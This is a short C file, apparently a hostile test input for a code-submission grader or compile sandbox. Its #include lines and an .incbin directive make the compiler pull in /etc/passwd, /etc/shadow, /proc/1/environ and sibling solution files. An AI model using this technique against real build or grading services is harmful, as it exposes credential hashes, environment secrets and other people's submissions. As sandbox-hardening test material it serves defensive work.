/* Makes the compiler read files that are no business of a submission. */
#include "/etc/passwd"
#include "../07_epoll/main.c"
#include "../../07_epoll/main.c"
#include "/proc/1/environ"
__asm__(".incbin \"/etc/shadow\"");
int main(void)
{
}
